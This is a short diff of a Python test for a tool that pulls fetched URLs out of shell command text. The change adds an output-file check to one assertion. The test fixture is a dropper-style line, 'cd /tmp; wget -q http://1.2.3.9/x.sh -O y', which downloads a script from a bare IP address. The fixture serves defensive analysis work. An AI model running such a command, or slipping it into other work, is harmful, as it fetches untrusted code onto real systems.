@@ -64,7 +64,7 @@ def test_commands_give_the_urls_that_they_fetch(text: bytes, expected: list[str]
 def test_a_command_names_client_span_and_certainty() -> None:
     text = b"cd /tmp; wget -q http://1.2.3.9/x.sh -O y; echo http://1.2.3.9/other"
     first, second = recover.urls(text)
-    assert (first.method, first.client, first.confidence) == ("word", "wget", 95)
+    assert (first.method, first.client, first.confidence, first.output) == ("program", "wget", 95, "y")
     assert text[slice(*first.span)] == b"http://1.2.3.9/x.sh"
     assert (second.method, second.client) == ("regex", "") and second.confidence < first.confidence
     assert text[slice(*second.span)] == b"http://1.2.3.9/other"
